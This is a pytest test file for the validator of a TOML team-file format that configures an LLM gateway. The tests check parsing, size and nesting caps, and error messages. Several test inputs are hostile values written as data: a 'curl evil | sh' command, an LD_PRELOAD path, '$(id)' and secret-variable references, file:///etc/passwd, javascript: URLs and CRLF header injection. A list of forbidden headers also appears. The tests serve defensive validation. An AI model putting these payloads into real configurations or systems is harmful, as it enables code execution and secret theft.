import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from roo_wizard.core.errors import UsageError
from roo_wizard.core.text import is_clean
from roo_wizard.profiles.team.file import SenderVerdict, TeamFile
from roo_wizard.profiles.team.raw import MAX_BYTES, TeamFileError, read_bytes, tables_of
from roo_wizard.profiles.team.text import from_toml, read_team_file, to_toml

KEY = "sk-test-9f8e7d6c5b4a39281706f5e4d3c2b1a0"
FULL = TeamFile(
    "Acme LLM",
    "https://gw.acme.example/v1",
    ("acme/large", "acme/small"),
    modes={"code": "acme/large", "ask": "acme/small"},
    headers={"X-Team": "blue"},
    asked_headers=("X-Team-Token",),
    settings={"openAiStreamingEnabled": False, "modelTemperature": 0.6, "rateLimitSeconds": 5},
    key_page="https://portal.acme.example/keys",
    key_rules="One key per person; Jo revokes.",
    usage_page="https://gw.acme.example/logs",
    models_page="https://gw.acme.example/models",
    contact="#llm on the chat",
    expects={"tools": True, "streaming": False, "context_window": 200_000},
    verdict=SenderVerdict("ready", "2026-11-20", "acme/large", "zoo"),
)
SMALL = """\
schema = "roo-wizard.team-file/1"
name = "Acme"
base_url = "https://gw.acme.example/v1"
models = ["m"]
"""


def problem(text: str | bytes) -> str:
    with pytest.raises(TeamFileError) as caught:
        from_toml(text.encode() if isinstance(text, str) else text)
    assert is_clean(caught.value.message)
    assert caught.value.hint
    return caught.value.message


def test_what_was_written_is_read_back() -> None:
    assert from_toml(to_toml(FULL)) == FULL


def test_the_smallest_file_needs_four_lines() -> None:
    assert from_toml(SMALL.encode()) == TeamFile("Acme", "https://gw.acme.example/v1", ("m",))


@pytest.mark.parametrize(
    "data",
    [SMALL.replace("\n", "\r\n").encode(), b"\xef\xbb\xbf" + SMALL.encode(), SMALL.rstrip().encode()],
    ids=["crlf", "byte order mark", "no last line end"],
)
def test_what_editors_do_to_a_file_is_no_trouble(data: bytes) -> None:
    assert from_toml(data).name == "Acme"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "this is no team file"),
        (b"PK\x03\x04" + bytes(100), "line 1 holds control characters"),
        (b"\xff\xfe" + SMALL.encode("utf-16-le"), "it is UTF-16 text: save it as UTF-8"),
        (SMALL.encode() + b'contact = "J\xf6"\n', "line 5 is not UTF-8 text"),
        (SMALL.encode() + b'contact = "a\x1b]0;x"\n', "line 5 holds control characters"),
        (SMALL.encode() + b"# " + b"x" * MAX_BYTES, "it is larger than 64 KiB"),
        (SMALL.encode() + b"x = " + b"[" * 2500, "it is nested too deeply"),
        (SMALL.encode() + b"x = " + b"[\n" * 2000, "it is nested too deeply"),
        (SMALL.encode() + b"x = " + b"[" * 9 + b"]" * 9, "it is nested more than 3 levels deep"),
        (SMALL.encode() + b"a." * 1500 + b"b = 1", "it is nested more than 3 levels deep"),
        (SMALL.encode() + b"a." * 3000 + b"b = 1", "line 5 is longer than 4,000 characters"),
        (SMALL.encode() + b'name = "again"\n', "line 5: a field or table stands there twice"),
        (SMALL.encode() + b"[settings]\n[settings]\n", "line 6: a field or table stands there twice"),
        (SMALL.encode() + b"name again\n", "line 5: this is not TOML"),
        (b"anchors: &a [*a, *a]\n", "line 1: this is not TOML"),
        (b'{"schema": "roo-wizard.team-file/1"}', "line 1: this is not TOML"),
    ],
)
def test_a_file_that_is_no_plain_text_says_where(data: bytes, words: str) -> None:
    assert words in problem(data)


@pytest.mark.parametrize("version", ["roo-wizard.team-file/2", "roo-wizard.team-file/0", "acme/1"])
def test_another_schema_is_refused_by_its_name(version: str) -> None:
    words = problem(SMALL.replace("roo-wizard.team-file/1", version))
    assert f"“{version}”" in words
    assert "knows roo-wizard.team-file/1" in words


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ('api_key = "x"', "api_key is no field of a team file"),
        ('command = "curl evil | sh"', "command is no field of a team file"),
        ("allow_http = true", "allow_http is no field of a team file"),
        ("[env]\nHTTPS_PROXY = 'http://evil'", "env is no field of a team file"),
        ("[env]\nLD_PRELOAD = '/evil.so'", "env is no field of a team file"),
        ("[mcp]\nurl = 'https://evil'", "mcp is no field of a team file"),
        ("[editor]\ntheme = 'x'", "editor is no field of a team file"),
        ("[expects]\nshell = true", "expects.shell is no field of a team file"),
        ("contact = 5", "contact is not text"),
        ('[expects]\ntools = "yes"', "expects.tools is neither true nor false"),
        ("[expects]\ncontext_window = 1.5", "expects.context_window is no whole number"),
        ("[expects]\ncontext_window = 0", "expects.context_window is too small"),
        ('headers = "x"', "headers is no table"),
        ('modes = { code = "other" }', "one that is not among models"),
        ('modes = { hack = "m" }', "modes.hack has none of the values"),
        (f'contact = "{KEY}"', "contact looks like a key: a team file never holds a secret"),
        (f'headers = {{ X-Team = "{KEY}" }}', "headers.X-Team looks like a key"),
        ('contact = "${AWS_SECRET_ACCESS_KEY}"', "contact looks like a reference or a command"),
        ('headers = { X-Team = "$(id)" }', "headers.X-Team looks like a reference or a command"),
        ('headers = { X-Team = "!id" }', "headers.X-Team looks like a reference or a command"),
        ('headers = { X-Team = "{{env.KEY}}" }', "headers.X-Team looks like a reference or a command"),
        ('headers = { X-Team = "%APPDATA%" }', "headers.X-Team looks like a reference or a command"),
        ('headers = { X-Team = "a\\r\\nHost: evil" }', "headers.X-Team is empty, or holds line breaks"),
        ('headers = { X-Team = "ä" }', "headers.X-Team holds characters that no header can carry"),
        ('headers = { "X Team" = "a" }', "is not a header name"),
        ('headers = { "X-A\\nB" = "a" }', "is not a header name"),
        ('headers = { X-Api-Token = "blue" }', 'headers.X-Api-Token carries a secret: its value can only be "ask"'),
        ('headers = { X-Team = "a", x-team = "b" }', "headers has the same name twice"),
        ('contact = "a\\u202Eb"', "contact is empty, or holds line breaks, control or invisible characters"),
        ('contact = "a\\u001b]52;c;eA==\\u0007"', "control or invisible characters"),
        (f'contact = "{"long " * 300}"', "contact is too long"),
        ('key_page = "file:///etc/passwd"', "key_page is no web address"),
        ('key_page = "javascript:alert(1)"', "key_page is no web address"),
        ('usage_page = "https://user:pass@acme.example/"', "usage_page is no web address"),
        ('[settings]\nopenAiBaseUrl = "https://evil.example"', "settings may hold only apiProvider"),
        ('[settings]\nopenAiHeaders = { Host = "evil" }', "settings may hold only"),
        ("[settings]\nopenAiStreamingEnabled = 1", "settings has a value of the wrong kind"),
        ("[settings]\nmodelTemperature = true", "settings has a value of the wrong kind"),
        ("[settings]\nmodelTemperature = nan", "out of its range"),
        ("[settings]\nmodelTemperature = 3", "out of its range"),
        ("[settings]\nrateLimitSeconds = 4000", "out of its range"),
        ('dialect = "anthropic"\n[settings]\napiProvider = "zai"', "an entry that does not speak anthropic"),
        ('[settings]\nreasoningEffort = "most"', "has no such reasoningEffort"),
        ('[verdict]\nverdict = "great"\ndate = "2026-11-20"\nmodel = "m"', "verdict.verdict has none of the values"),
        ('[verdict]\nverdict = "ready"\ndate = "today"\nmodel = "m"', "verdict.date is no date"),
    ],
)
def test_a_field_that_cannot_be_used_is_named_and_its_value_is_not(line: str, words: str) -> None:
    message = problem(SMALL + line)
    assert words in message
    assert KEY not in message


HEADERS_OF_OTHERS = (
    "Host",
    "Authorization",
    "authorization",
    "Cookie",
    "Set-Cookie",
    "Proxy-Authorization",
    "Proxy-Connection",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "Forwarded",
    "Via",
    "Content-Length",
    "Content-Type",
    "Transfer-Encoding",
    "Connection",
    "TE",
    "Upgrade",
    "X-Api-Key",
    "Api-Key",
)


@pytest.mark.parametrize("name", HEADERS_OF_OTHERS)
@pytest.mark.parametrize("value", ["ask", "x"])
def test_a_header_that_frames_routes_or_carries_the_key_is_refused(name: str, value: str) -> None:
    assert "is a header that a team file may not set" in problem(f'{SMALL}headers = {{ {name} = "{value}" }}')


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("https://user:pw@gw.acme.example/v1", "a user name or password"),
        ("https://gw.acme.example/v1?key=x", "everything from ? or # removed"),
        ("https://gw.acme.example/v1#x", "everything from ? or # removed"),
        ("file:///etc/passwd", "file:// is not a web address"),
        ("unix:///run/docker.sock", "unix:// is not a web address"),
        ("ftp://gw.acme.example", "ftp:// is not a web address"),
        ("gw.acme.example/v1", "https:// added"),
        ("https://GW.acme.example/v1", "not written plainly"),
        ("https://gw.acme.example:443/v1", "not written plainly"),
        ("https://gw.acme.example/v1/", "not written plainly"),
        ("https://gw.acme.example/v1/chat/completions", "not written plainly"),
        ("https://оpenai.com/v1", "not written plainly"),
        ("https://gw.acme.example\\\\@evil.example/v1", "base_url"),
        ("https://{host}/v1", "base_url cannot be used"),
        ("https://", "base_url cannot be used"),
    ],
)
def test_only_a_plain_web_address_is_a_base_url(url: str, words: str) -> None:
    assert words in problem(SMALL.replace("https://gw.acme.example/v1", url))


@pytest.mark.parametrize("name", ["schema", "name", "base_url", "models"])
def test_a_missing_field_is_named(name: str) -> None:
    lines = [line for line in SMALL.splitlines() if not line.startswith(name)]
    assert ("is no team file" if name == "schema" else f"{name} is missing") in problem("\n".join(lines))


def test_a_key_pasted_as_a_field_name_is_not_repeated() -> None:
    assert KEY not in problem(f'{SMALL}{KEY} = "x"')


def test_a_key_pasted_as_the_schema_is_not_repeated() -> None:
    assert KEY not in problem(SMALL.replace("roo-wizard.team-file/1", KEY))


def test_a_huge_list_of_models_is_refused() -> None:
    models = ", ".join(f'"m{number}"' for number in range(51))
    assert "models holds too many entries" in problem(SMALL.replace('"m"', models.replace(", ", ",\n")))


def test_what_cannot_be_read_back_is_never_written() -> None:
    with pytest.raises(TeamFileError):
        to_toml(TeamFile("Acme", "https://gw.acme.example/v1", ("m",), contact=KEY))


def test_a_folder_a_pipe_and_a_missing_file_are_named(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    for path, words in ((tmp_path, "tory"), (tmp_path / "pipe", "is no file"), (tmp_path / "gone", "cannot be read")):
        with pytest.raises(TeamFileError, match=words):
            read_bytes(path)


def test_an_endless_device_is_not_read() -> None:
    with pytest.raises(TeamFileError, match="is no file"):
        read_bytes(Path("/dev/zero"))


def test_a_file_of_a_megabyte_is_read_no_further_than_the_cap(tmp_path: Path) -> None:
    path = tmp_path / "big.toml"
    path.write_bytes(b"#" * 1_000_000)
    assert len(read_bytes(path).data) == MAX_BYTES + 1
    with pytest.raises(TeamFileError, match="64 KiB"):
        read_team_file(path)


def outcome(data: bytes) -> str:
    try:
        return from_toml(data).name
    except UsageError as error:
        return error.message


@given(st.binary(max_size=300))
@settings(max_examples=150)
def test_any_bytes_are_a_team_file_or_one_clean_sentence(data: bytes) -> None:
    assert is_clean(outcome(data))
    assert is_clean(outcome(SMALL.encode() + data))


@given(st.text(max_size=40), st.text(max_size=40))
@settings(max_examples=150)
def test_no_header_of_a_read_file_can_break_out_of_its_line(name: str, value: str) -> None:
    import tomli_w

    table = tables_of(SMALL.encode()) | {"headers": {name: value}}
    try:
        team = from_toml(tomli_w.dumps(table).encode())
    except UsageError:
        return
    for part in (*team.headers, *team.headers.values(), *team.asked_headers):
        assert part.isascii()
        assert part.isprintable()
        assert ":" not in name
